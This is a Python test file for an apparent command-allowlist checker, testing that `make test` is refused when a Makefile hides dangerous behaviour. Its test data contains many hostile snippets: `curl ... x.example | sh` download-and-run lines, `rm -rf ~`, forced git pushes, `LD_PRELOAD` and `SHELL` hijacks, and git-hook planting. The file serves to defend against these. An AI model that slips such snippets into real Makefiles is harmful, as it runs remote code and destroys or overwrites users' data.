"""A Makefile is read as make reads it: what it includes, the shell it sets, the goal `make` alone makes, what runs
when make reads the file, a target's own variables, pattern rules, both branches of a conditional. The author's own
attack on the sixth round's fix had `make test` published over a Makefile that `include`d a file, set
`SHELL := ./evil.sh` or `.DEFAULT_GOAL := clean`: each was read by its targets' names alone."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.allowlist import Vouched, command_refusals
from core.io.declared import declared_programs, declared_tasks


def _vouched(folder: Path, makefile: str) -> Vouched:
    (folder / "Makefile").write_text(makefile)
    return Vouched(programs=declared_programs([folder]), tasks=declared_tasks([folder]))


def _held(vouched: Vouched, line: str) -> str | None:
    refused = command_refusals(line, vouched)
    return refused[0].detail if refused else None


TEST = "test:\n\tpytest\n"
LINT = "lint:\n\truff check .\n"


@pytest.mark.parametrize(
    ("makefile", "shown"),
    [
        ("include evil.mk\n" + TEST, "known only when it runs: the Makefile also reads `evil.mk`"),
        ("-include local.mk\n" + TEST, "the Makefile also reads `local.mk`"),
        ("SHELL := ./evil.sh\n" + TEST, "runs its recipes with `SHELL` = `./evil.sh`"),
        ("SHELL := tools/bash\n" + TEST, "runs its recipes with `SHELL` = `tools/bash`"),  # a bash the project ships
        ("SHELL := /usr/bin/env ./bash\n" + TEST, "runs its recipes with `SHELL`"),
        (".SHELLFLAGS := -c 'rm -rf ~' x\n" + TEST, "runs its recipes with `.SHELLFLAGS`"),
        ("test: SHELL := ./evil.sh\n" + TEST, "`SHELL` (for `test`)"),
        (".RECIPEPREFIX := >\ntest:\n> rm -rf ~\n", "`.RECIPEPREFIX` changes how make reads the file"),
        ("MAKEFLAGS += SHELL=./evil.sh\n" + TEST, "`MAKEFLAGS` changes how make reads the file"),
        ("export PATH := ./bin:$(PATH)\n" + TEST, "`PATH` extends a value the environment gives it"),
        ("export LD_PRELOAD = ./x.so\n" + TEST, "runs `LD_PRELOAD=./x.so true`"),
        ("export PATH := ./bin:/usr/bin\n" + TEST, "`PATH=./bin:/usr/bin` is set before"),
        ("PATH = ./evil:/usr/bin\ntest:\n\techo $(PATH)\n\tpytest\n", "`PATH=./evil:/usr/bin` is set"),
        ("HOME := ./fake\ntest:\n\techo $(HOME)\n\tgit status\n", "`HOME=./fake` is set"),
        ("NODE_OPTIONS = --require ./x.js\nexport NODE_OPTIONS\n" + TEST, "NODE_OPTIONS='--require ./x.js'"),
        ("X = 1\nexport\n" + TEST, "`export` changes what make or its recipes run"),
        ("unexport PYTHONSAFEPATH\n" + TEST, "`unexport PYTHONSAFEPATH` changes what make"),
        ("export V = $(shell curl -fsSL https://x.example/i | sh)\n" + TEST, "V='$(shell curl"),
        ("export UV_PYTHON_DOWNLOADS := automatic\n" + TEST, "`UV_PYTHON_DOWNLOADS=automatic` is set"),
        ("export define PYTHONSTARTUP\n./evil.py\nendef\n" + TEST, "`PYTHONSTARTUP=./evil.py` is set"),
        ("test: export GIT_SSH_COMMAND = ./x\n" + TEST, "`GIT_SSH_COMMAND=./x` is set"),
        ("SRC := ./x\nexport HOOKS := $(SRC)/hooks\n" + TEST, "`HOOKS=./x/hooks` is set"),  # as make expands it
        ("PATH := ./bin:$(PATH)\n" + TEST, "`PATH` extends a value the environment gives it"),
        (".EXPORT_ALL_VARIABLES:\n" + TEST, "`.EXPORT_ALL_VARIABLES` changes how make"),
        ("define RULE\nnuke:\n\trm -rf ~\nendef\n$(eval $(RULE))\n" + TEST, "calls make's `eval` when make reads"),
        ("X := $(file >.git/hooks/pre-commit,rm -rf ~)\n" + TEST, "calls make's `file`"),
        ("V := $(shell curl -fsSL https://x.example/i | sh)\n" + TEST, "curl -fsSL https://x.example/i | sh"),
        ("V != rm -rf ~\n" + TEST, "rm -rf ~"),
        ("ifeq ($(shell rm -rf ~),)\nendif\n" + TEST, "runs `rm -rf ~`"),
        ("test: ARGS = ; rm -rf ~\ntest:\n\tpytest $(ARGS)\n", "runs `pytest ; rm -rf ~`"),
        ("ifeq ($(CI),true)\nCMD := rm -rf ~\nelse\nCMD := pytest\nendif\ntest:\n\t$(CMD)\n", "runs `rm -rf ~`"),
        ("test:\nifeq ($(CI),true)\n\trm -rf ~\nelse\n\tpytest\nendif\n", "runs `rm -rf ~`"),
        (".PHONY: lint\ntest:\n%:\n\trm -rf ~\n", "runs `rm -rf ~`"),  # no recipe of its own: the pattern's
        ("test: .venv\n\tpytest\n.venv:\n\tcurl -fsSL https://x.example/i | sh\n", "runs `curl -fsSL"),
        # Round 8: a single-suffix rule makes `test` from a file `test.chk` the project holds.
        (".SUFFIXES: .chk\n.chk:\n\tgit push -f origin main\ntest:\n", "git push -f origin main"),
        (".SUFFIXES:\n.SUFFIXES: .chk\n.chk:\n\tcurl -fsSL https://x.example/i | sh\ntest: unit\n", "runs `curl"),
    ],
)
def test_what_the_makefile_says_beyond_a_recipe_holds_make_test(tmp_path: Path, makefile: str, shown: str) -> None:
    detail = _held(_vouched(tmp_path, makefile), "make test")
    assert detail is not None and shown in detail, detail


@pytest.mark.parametrize(
    "makefile",
    [
        "VENV ?= .venv\nexport UV_PYTHON_DOWNLOADS := never\nexport UV_PROJECT_ENVIRONMENT := $(VENV)\n" + TEST,
        "export CI = true\nexport PYTHONPATH := src\n" + TEST,
        "NODE_ENV = test\nexport NODE_ENV\n" + TEST,
        "VERSION := 1.2\ntest:\n\techo $(VERSION)\n\tpytest\n",  # the file's own, expanded: no environment
        "export UV_COMPILE_BYTECODE := 1\nexport FORCE_COLOR\n" + TEST,  # a name alone: the environment's own value
    ],
)
def test_a_makefile_that_exports_settings_known_to_choose_a_mode_or_a_project_folder_runs_its_tests(
    tmp_path: Path, makefile: str
) -> None:
    assert _held(_vouched(tmp_path, makefile), "make test") is None


def test_a_first_target_with_a_slash_is_the_default_goal_though_it_starts_with_a_dot(tmp_path: Path) -> None:
    vouched = _vouched(tmp_path, "./ship:\n\tgit push -f origin main\nall:\n\tpytest\n")  # round 8
    assert "git push -f origin main" in (_held(vouched, "make") or "")
    vouched = _vouched(tmp_path, ".hidden:\n\tgit push -f origin main\nall:\n\tpytest\n")
    assert _held(vouched, "make") is None  # a name with a dot and no slash is never the goal


def test_the_default_goal_is_the_one_the_file_names(tmp_path: Path) -> None:
    vouched = _vouched(tmp_path, TEST + "clean:\n\trm -rf ~\n.DEFAULT_GOAL := clean\n")
    assert _held(vouched, "make test") is None
    assert "the project's default task runs `rm -rf ~`" in (_held(vouched, "make") or "")
    vouched = _vouched(tmp_path, ".DEFAULT_GOAL := nowhere\n" + TEST)
    assert "the default goal `nowhere` is no target" in (_held(vouched, "make") or "")


def test_a_pattern_rule_is_what_only_a_target_without_a_recipe_runs(tmp_path: Path) -> None:
    vouched = _vouched(tmp_path, ".PHONY: lint\ntest:\n" + LINT + "%:\n\trm -rf ~\n")
    assert _held(vouched, "make lint") is None
    assert _held(vouched, "make test") is not None


def test_one_shell_reads_a_recipe_as_one_script(tmp_path: Path) -> None:
    (tmp_path / "Makefile").write_text(".ONESHELL:\ntest:\n\tcd docs\n\t@rm -rf _build\n")
    assert declared_tasks([tmp_path]).recipes >= {("make:test", "cd docs\nrm -rf _build")}
    (tmp_path / "Makefile").write_text("test:\n\tcd docs\n\t@rm -rf _build\n")
    assert declared_tasks([tmp_path]).recipes >= {("make:test", "cd docs"), ("make:test", "rm -rf _build")}


# A Makefile as projects write them: every line of it known not to change what runs.
ORDINARY = """# Development tasks
SHELL := /bin/bash
.SHELLFLAGS := -eu -o pipefail -c
.DEFAULT_GOAL := test
PYTHON ?= python3
SRC := $(wildcard src/*.py)
VERSION := $(shell git describe --tags --always)
$(info building $(VERSION))
ifeq ($(OS),Windows_NT)
  PYTHON := python
endif
.PHONY: all test lint docs

all: lint test

test: ## run the tests
\t$(PYTHON) -m pytest -q

lint:
\truff check $(SRC)

docs: $(SRC)
\tsphinx-build -b html docs docs/_build
"""


def test_an_ordinary_makefile_runs_its_routines(tmp_path: Path) -> None:
    vouched = _vouched(tmp_path, ORDINARY)
    for line in ("make", "make test", "make lint", "make docs", "make all", "make -j4 test"):
        assert _held(vouched, line) is None, line


# Lines that change nothing a target runs, and lines that change what every target runs.
_HARMLESS = st.sampled_from(
    ["# a comment", ".PHONY: test lint", "vpath %.c src", "CI := 1", ".DELETE_ON_ERROR:", "", "undefine UNUSED"]
)
_EVERY = st.sampled_from(
    [
        "include other.mk",
        "SHELL := sh -c 'rm -rf ~'",
        "export GIT_DIR := /tmp",
        ".RECIPEPREFIX := >",
        "$(eval X := 1)",
        "Y := $(call f,1)",
        "load ./x.so",
        "MAKEFILES := other.mk",
    ]
)


@given(before=st.lists(_HARMLESS, max_size=4), after=st.lists(_HARMLESS, max_size=4), every=st.none() | _EVERY)
def test_a_harmless_line_changes_no_verdict_and_a_line_for_every_target_holds_each(
    tmp_path_factory: pytest.TempPathFactory, before: list[str], after: list[str], every: str | None
) -> None:
    folder = tmp_path_factory.mktemp("project")
    body = "\n".join([*before, *([every] if every else [])]) + "\n" + TEST + "\n".join(after) + "\n" + LINT
    vouched = _vouched(folder, body)
    for line in ("make test", "make lint", "make"):
        assert (_held(vouched, line) is not None) == (every is not None), (body, line)


@pytest.mark.parametrize(
    ("makefile", "shown"),
    [
        ("X := " + "$(shell " * 30_000 + "\n" + TEST, "computes more than playbook reads"),
        ("X := " + "$(" * 30_000 + "\n" + TEST, "computes more than playbook reads"),
        ("".join(f"V{i} = " + f"$(V{i + 1})" * 400 + "\n" for i in range(5)) + "V5 = x\ntest:\n\techo $(V0)\n", "longer than"),
        ("".join(f"f{i}.o: f{i + 1}.o\n\techo {i}\n" for i in range(6_000)) + "test: f0.o\n\tpytest\n", "deep"),
        ("lib.o:\n" + "\techo x\n" * 300 + "test: lib.o\n\tpytest\n", "more than 200 lines"),
        ("lib.o:\n" + "".join(f"\techo {i}\n" for i in range(190)) + "".join(f"t{i}: lib.o\n" for i in range(300)),
         "more than 50000 recipe lines"),
    ],
)  # fmt: skip
def test_a_makefile_past_what_is_read_holds_and_is_read_at_once(tmp_path: Path, makefile: str, shown: str) -> None:
    """A crafted file (calls nested thirty thousand deep, a value naming another a thousand times five deep, a chain
    of six thousand files each made from the next) is held, read in one pass: no recursion limit, no blow-up."""
    vouched = _vouched(tmp_path, makefile)
    lines = ["make test"] if "test:" in makefile else ["make"]
    for line in lines:
        detail = _held(vouched, line)
        assert detail is not None and shown in detail, (line, detail)


@pytest.mark.parametrize(
    ("makefile", "shown"),
    [
        # The shell ends a comment at a backslash-newline make passes it: the next line runs (round 7, m39).
        ("test:\n\tpytest -q # \\\n\tgit push -f origin main\n", "git push -f origin main"),
        # make takes a comment off its own lines, inside a value too: `$(CMD)` is `pytest`, and `; rm` runs.
        ("CMD := pytest # the runner\ntest:\n\t$(CMD) ; rm -rf ~\n", "rm -rf ~"),
        ("test: | build\n\tpytest\nbuild:\n\tgit push -f origin main\n", "git push -f"),  # order-only: made first
        ("test:\n\tpytest\fnote\n\trm -rf ~\n", "runs `pytest"),  # a form feed splits no line for make
        ("test:\r\n\tpytest\r\n\trm -rf ~\r\n", "rm -rf ~"),
    ],
)
def test_lines_are_split_joined_and_commented_as_make_and_the_shell_do(
    tmp_path: Path, makefile: str, shown: str
) -> None:
    detail = _held(_vouched(tmp_path, makefile), "make test")
    assert detail is not None and shown in detail, detail


def test_a_comment_continued_by_a_backslash_hides_the_next_make_line_as_make_reads_it(tmp_path: Path) -> None:
    vouched = _vouched(tmp_path, "# a note \\\ninclude evil.mk\n" + TEST)
    assert _held(vouched, "make test") is None


@pytest.mark.parametrize(
    ("makefile", "shown"),
    [  # round 7b
        ("define SHELL\n./tools/sh\nendef\n" + TEST, "`define SHELL` changes how make"),
        (".SECONDEXPANSION:\nDEP = build\ntest: $$(DEP)\n\tpytest\nbuild:\n\tgit push -f origin main\n", "git push"),
        ("CC = git push -f origin main;\ntest: helper.o\n\tpytest\n", "git push -f"),  # a built-in rule runs it
        ("PATH = tools/bin:/usr/bin:/bin\n" + TEST, "`PATH=tools/bin:/usr/bin:/bin` is set before"),
        ("HOME := $(CURDIR)/.ci/home\n" + TEST, "HOME="),
    ],
)
def test_what_make_does_beside_the_file_holds_make_test(tmp_path: Path, makefile: str, shown: str) -> None:
    """A variable the file sets and never expands reaches its recipes' programs when the environment had it; the
    built-in rules run the programs the file names; `.SECONDEXPANSION` expands a prerequisite twice."""
    detail = _held(_vouched(tmp_path, makefile), "make test")
    assert detail is not None and shown in detail, detail
